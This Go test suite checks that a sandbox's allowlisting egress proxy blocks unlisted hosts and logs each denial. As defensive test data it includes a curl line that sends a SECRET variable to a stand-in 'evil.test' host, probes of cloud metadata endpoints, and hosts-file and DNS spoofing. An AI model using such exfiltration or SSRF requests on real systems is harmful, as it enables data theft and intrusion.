package boxtest

import (
	"fmt"
	"net"
	"strings"
	"testing"
	"time"

	"github.com/untrusted-steps/untrusted-steps/internal/box"
	"github.com/untrusted-steps/untrusted-steps/internal/boxtest/probe"
	"github.com/untrusted-steps/untrusted-steps/internal/egress"
)

// proxyAddr is where the proxy answers in a box.
var proxyAddr = fmt.Sprintf("127.0.0.1:%d", box.ProxyPort)

// get is a plain request through the proxy.
func get(host, path string) probe.Op { return probe.Do("send", proxyAddr, request(host, path)) }

func request(host, path string) string {
	return "GET http://" + host + path + " HTTP/1.1\r\nHost: " + host + "\r\nConnection: close\r\n\r\n"
}

// connect asks the proxy for a tunnel.
func connect(to string) probe.Op {
	return probe.Do("send", proxyAddr, "CONNECT "+to+" HTTP/1.1\r\nHost: "+to+"\r\n\r\n")
}

// asking runs the probe in a box with a proxy.
func (s *suite) asking(t testing.TB, w *world, ops ...probe.Op) result {
	t.Helper()
	j := s.probing(t, ops...)
	j.Network, j.proxy = box.NetworkAllowlist, w.proxy
	j.Env = append(j.Env, egress.Environ(box.ProxyPort)...)
	return s.run(t, j)
}

// egressFacts are about the proxy as the box has it. What the proxy makes of
// requests is tested where it lives.
func (s *suite) egressFacts(t *testing.T) {
	t.Run("a listed name is reached through the proxy, an unlisted one is egress_denied", func(t *testing.T) {
		t.Parallel()
		w := newWorld(t, "good.test")
		a := s.asking(t, w, get("good.test", "/a")).answers(t, 1)
		if !strings.Contains(a[0].Text, "200 OK") || !strings.Contains(a[0].Text, "hello from good.test") {
			t.Errorf("a listed name: %s", tell(a[0]))
		}
		if got := w.count("good.test"); fmt.Sprint(got) != "map[allowed:1]" {
			t.Errorf("the ledger has %v", got)
		}
		w = newWorld(t, "good.test")
		r := s.asking(t, w, get("evil.test", "/secret"))
		r.exited(t, 0)
		r.faulted(t, box.EgressDenied)
		mentions(t, r, "evil.test")
		if n := len(w.evil.requests()) + len(w.lookedUp()); n != 0 {
			t.Errorf("a denied request came to %d look-ups and requests", n)
		}
	})

	t.Run("a tcp rule carries a connection to its end, and one that is refused is reset", func(t *testing.T) {
		t.Parallel()
		w := newWorld(t, "tcp://good.test:80", "tcp://inside.test:5432", "tcp://inside.test:22")
		forwards, err := egress.Forwards(w.proxy.Policy.Allow)
		if err != nil {
			t.Fatal(err)
		}
		var ops []probe.Op
		for i, say := range []string{"GET /a HTTP/1.1\r\nHost: good.test\r\nConnection: close\r\n\r\n", "the client speaks first", ""} {
			ops = append(ops, probe.Do("end of", forwards[i].Listen.String(), say))
		}
		j := s.probing(t, ops...)
		j.Network, j.proxy, j.forwards = box.NetworkAllowlist, w.proxy, forwards
		for _, f := range forwards {
			j.Listen = append(j.Listen, f.Listen)
		}
		r := s.run(t, j)
		r.exited(t, 0)
		r.faulted(t, box.EgressDenied)
		a := parse(t, r.stdout)
		works(t, "a rule that is allowed", a[0])
		if !strings.HasSuffix(a[0].Text, "hello from good.test") {
			t.Errorf("control: %s", tell(a[0]))
		}
		wantErr(t, "one that is refused and has spoken", a[1], "ECONNRESET", "EPIPE")
		wantErr(t, "one that is refused and waits", a[2], "ECONNRESET")
		if got := w.count("inside.test"); got["denied:self"]+got["denied:non_public"] != 2 {
			t.Errorf("the ledger has %v", got)
		}
	})

	t.Run("a proxy-aware program of the host gets through", func(t *testing.T) {
		t.Parallel()
		Need(t, "curl")
		w := newWorld(t, "good.test")
		j := s.shell(t, "curl -sS http://good.test/c")
		j.Network, j.proxy = box.NetworkAllowlist, w.proxy
		j.Env = append(j.Env, egress.Environ(box.ProxyPort)...)
		r := s.run(t, j)
		r.passed(t)
		if r.stdout != "hello from good.test" {
			t.Errorf("curl: %s", r.describe())
		}
	})

	t.Run("A8 C28 E60 an allowed name cannot be pinned to another address, nor an address asked for", func(t *testing.T) {
		t.Parallel()
		w := newWorld(t, "good.test", "inside.test")
		evil := w.evil.server.Listener.Addr().String()
		pinned := "GET http://" + evilAddr + "/ HTTP/1.1\r\nHost: good.test\r\n\r\n"
		r := s.asking(t, w, probe.Do("send", proxyAddr, pinned), connect(evilAddr+":443"), connect("169.254.169.254:80"), connect("[fd00:ec2::254]:80"),
			get("metadata.google.internal", "/"), get("inside.test", "/"), connect(evil), probe.Do("connect", "tcp", evil))
		r.exited(t, 0)
		r.faulted(t, box.EgressDenied)
		a := parse(t, r.stdout)
		for i := range 7 {
			if strings.Contains(a[i].Text, " 200 ") || a[i].Text == "" {
				t.Errorf("request %d: %s", i, tell(a[i]))
			}
		}
		wantErr(t, "connect to the evil sink", a[7], "ECONNREFUSED")
		if got := w.evil.requests(); len(got) != 0 {
			t.Errorf("the evil sink got %q", got)
		}
		for host, want := range map[string]string{"169.254.169.254": "denied:metadata", "metadata.google.internal": "denied:metadata", "inside.test": "denied:self"} {
			if got := w.count(host); got[want] == 0 && got["denied:non_public"] == 0 {
				t.Errorf("the ledger has %v of %s, want %s", got, host, want)
			}
		}
	})

	t.Run("C29 C47 a tunnel to another port, and what speaks no HTTP, come to nothing", func(t *testing.T) {
		t.Parallel()
		w := newWorld(t, "good.test")
		var ops []probe.Op
		for _, to := range []string{"good.test:22", "good.test:6379", "good.test:0", "good.test:65536", "good.test", "good.test:443\t", "evilgood.test:443", "good.test.evil.test:443"} {
			ops = append(ops, connect(to))
		}
		for _, text := range []string{"\x05\x01\x00", "\x04\x01\x01\xbb\x00\x00\x00\x01\x00good.test\x00", "GET gopher://good.test/ HTTP/1.1\r\nHost: good.test\r\n\r\n", "GET ftp://good.test/ HTTP/1.1\r\nHost: good.test\r\n\r\n", "USER x\r\n"} {
			ops = append(ops, probe.Do("send", proxyAddr, text))
		}
		ops = append(ops, get("good.test", "/control"))
		r := s.asking(t, w, ops...)
		r.exited(t, 0)
		r.faulted(t, box.EgressDenied)
		a := parse(t, r.stdout)
		for i := range len(ops) - 1 {
			if strings.Contains(a[i].Text, " 200 ") {
				t.Errorf("%q: %s", ops[i].Args[1], tell(a[i]))
			}
		}
		if got := w.good.requests(); fmt.Sprint(got) != "[good.test/control]" || len(w.evil.requests()) != 0 {
			t.Errorf("the servers got %q and %q", got, w.evil.requests())
		}
	})

	t.Run("D59 who verifies nothing gets the allowed name's own server, and no other", func(t *testing.T) {
		t.Parallel()
		Need(t, "curl")
		w := newWorld(t, "good.test")
		w.good.overTLS(t)
		w.evil.overTLS(t)
		j := s.shell(t, `
curl -sk https://good.test/a; echo
curl -sk --resolve good.test:443:`+evilAddr+` https://good.test/b; echo
curl -sk --connect-to good.test:443:evil.test:443 https://good.test/c
curl -sk --resolve evil.test:443:`+goodAddr+` https://evil.test/d
curl -s https://good.test/e
true`)
		j.Network, j.proxy = box.NetworkAllowlist, w.proxy
		j.Env = append(j.Env, egress.Environ(box.ProxyPort)...)
		r := s.run(t, j)
		r.exited(t, 0)
		r.faulted(t, box.EgressDenied)
		if r.stdout != "hello from good.test\nhello from good.test\n" {
			t.Errorf("curl: %s", r.describe())
		}
		if got := w.good.requests(); fmt.Sprint(got) != "[good.test/a good.test/b]" || len(w.evil.requests()) != 0 {
			t.Errorf("the servers got %q and %q", got, w.evil.requests())
		}
	})

	t.Run("M150 M151 what is sent to an allowed name goes as it is, and how much of it is in the ledger", func(t *testing.T) {
		t.Parallel()
		Need(t, "curl")
		const much = 200_000
		w := newWorld(t, "good.test")
		j := s.shell(t, `
curl -s -o /dev/null 'http://good.test/%24%7BSECRET%7D/$SECRET/{{secret}}' -g -H 'Authorization: ${SECRET}'
head -c `+fmt.Sprint(much)+` /dev/zero | curl -s -o /dev/null --data-binary @- http://good.test/up
curl -s -o /dev/null 'http://evil.test/$SECRET' -g
true`)
		j.Network, j.proxy = box.NetworkAllowlist, w.proxy
		j.Env = append(append(j.Env, "SECRET=sesame-open"), egress.Environ(box.ProxyPort)...)
		r := s.run(t, j)
		r.exited(t, 0)
		r.faulted(t, box.EgressDenied)
		if got := w.good.requests(); fmt.Sprint(got) != "[good.test/${SECRET}/$SECRET/{{secret}} good.test/up]" || len(w.evil.requests()) != 0 {
			t.Errorf("the servers got %q and %q", got, w.evil.requests())
		}
		var out uint64
		for _, rec := range w.ledger.Records() {
			if rec.Host == "good.test" {
				out += rec.BytesOut
			}
		}
		if out < much || out > 2*much {
			t.Errorf("the ledger has %d bytes out of %d and some", out, much)
		}
	})

	t.Run("E64 what a root says of names in its hosts file is of no account to the proxy", func(t *testing.T) {
		t.Parallel()
		Need(t, "overlay")
		w := newWorld(t, "good.test")
		evil := w.evil.server.Listener.Addr().String()
		_, port, _ := net.SplitHostPort(evil)
		dir := rootFolder(t)
		put(t, dir, "etc/hosts", "127.0.0.1 localhost good.test\n"+evilAddr+" good.test\n"+goodAddr+" evil.test\n", 0o644)
		put(t, dir, "etc/nsswitch.conf", "hosts: files dns\n", 0o644)
		put(t, dir, "etc/resolv.conf", "nameserver "+evilAddr+"\n", 0o644)
		j := s.imaged(t, dir, get("good.test", "/a"), get("evil.test", "/b"), probe.Do("connect", "tcp", "good.test:"+port), probe.Do("connect", "tcp", evilAddr+":80"))
		j.Network, j.proxy = box.NetworkAllowlist, w.proxy
		r := s.run(t, j)
		r.exited(t, 0)
		r.faulted(t, box.EgressDenied)
		a := parse(t, r.stdout)
		if !strings.Contains(a[0].Text, "200 OK") || !strings.Contains(a[0].Text, "hello from good.test") {
			t.Errorf("control: the listed name: %s", tell(a[0]))
		}
		if !strings.HasPrefix(a[1].Text, "HTTP/1.1 403 ") {
			t.Errorf("the unlisted name: %s", tell(a[1]))
		}
		for i := 2; i < 4; i++ {
			refused(t, "connect past the proxy", a[i])
		}
		if n := len(w.evil.requests()); n != 0 || fmt.Sprint(w.lookedUp()) != "[good.test]" {
			t.Errorf("%d requests for the evil origin, looked up %q", n, w.lookedUp())
		}
	})

	t.Run("A15 a proxy that stops is egress_lost and leaves no network", func(t *testing.T) {
		t.Parallel()
		w := newWorld(t, "good.test", stopName)
		r := s.asking(t, w, get("good.test", "/before"), get(stopName, "/"), probe.Do("sleep", "200"), probe.Do("connect", "tcp", proxyAddr),
			get("good.test", "/after"), probe.Do("connect", "tcp", "192.0.2.1:80"), probe.Do("connect", "tcp", w.good.server.Listener.Addr().String()))
		r.exited(t, 0)
		r.faulted(t, box.EgressLost)
		a := parse(t, r.stdout)
		if !strings.Contains(a[0].Text, "200 OK") {
			t.Errorf("control: before, the name is reached: %s", tell(a[0]))
		}
		wantErr(t, "connect to the proxy afterwards", a[3], "ECONNREFUSED", "ECONNRESET")
		if strings.Contains(a[4].Text, "200 OK") {
			t.Errorf("a request afterwards: %s", tell(a[4]))
		}
		wantErr(t, "connect past the proxy afterwards", a[5], unreachable...)
		wantErr(t, "connect to the origin afterwards", a[6], "ECONNREFUSED")
		if got := w.good.requests(); len(got) != 1 {
			t.Errorf("the origin got %q", got)
		}
	})

	t.Run("A15 killing all of the box's processes does not open the network", func(t *testing.T) {
		t.Parallel()
		w := newWorld(t, "good.test")
		a := s.asking(t, w, probe.Do("kill everybody"), get("good.test", "/"), probe.Do("connect", "tcp", "192.0.2.1:80")).answers(t, 3)
		if !strings.Contains(a[1].Text, "200 OK") {
			t.Errorf("the proxy is gone: %s", tell(a[1]))
		}
		wantErr(t, "connect past the proxy", a[2], unreachable...)
	})

	t.Run("A17 a connection ends with the step that opened it", func(t *testing.T) {
		t.Parallel()
		w := newWorld(t, "good.test")
		r := s.asking(t, w, probe.Do("send and leave", proxyAddr, request("good.test", "/slow"), "200"))
		r.exited(t, 0)
		if got := w.good.requests(); len(got) != 1 {
			t.Fatalf("control: the origin got %q", got)
		}
		select {
		case <-w.good.gone:
		case <-time.After(2 * time.Second):
			t.Error("the connection to the origin is still open after the step")
		}
	})

	t.Run("K134 a denial in the last moment before the end is on record", func(t *testing.T) {
		t.Parallel()
		for range 3 {
			w := newWorld(t, "good.test")
			r := s.asking(t, w, probe.Do("send and leave", proxyAddr, request("evil.test", "/")), probe.Do("exit", "0"))
			r.exited(t, 0)
			r.faulted(t, box.EgressDenied)
			if got := w.count("evil.test"); fmt.Sprint(got) != "map[denied:no_rule:1]" {
				t.Errorf("the ledger has %v", got)
			}
		}
		// One that is judged only after the step has ended.
		slow := newWorld(t, "slow.test")
		s.asking(t, slow, probe.Do("send and leave", proxyAddr, request("slow.test", "/"))).faulted(t, box.EgressDenied)
		if got := slow.count("slow.test"); fmt.Sprint(got) != "map[denied:non_public:1]" {
			t.Errorf("the ledger has %v of a name that is slow to look up", got)
		}
		// So many that some lie unread when the step has ended.
		w := newWorld(t, "good.test")
		r := s.asking(t, w, probe.Do("flood and leave", proxyAddr, request("evil.test", "/"), "150"))
		r.exited(t, 0)
		r.faulted(t, box.EgressDenied)
		if got := w.count("evil.test"); fmt.Sprint(got) != "map[denied:no_rule:150]" {
			t.Errorf("the ledger has %v, want 150 denials", got)
		}
	})

	t.Run("K131 K133 every one of many denials is counted", func(t *testing.T) {
		t.Parallel()
		w := newWorld(t, "good.test")
		r := s.asking(t, w, probe.Do("ask many", proxyAddr, "300"))
		r.exited(t, 0)
		r.faulted(t, box.EgressDenied)
		if a := parse(t, r.stdout); a[0].N != 300 {
			t.Errorf("control: %d of 300 requests were answered", a[0].N)
		}
		if len(r.Evidence.Denied) != 300 || len(r.Events) != 300 {
			t.Errorf("%d denials and %d events, want 300", len(r.Evidence.Denied), len(r.Events))
		}
	})
}
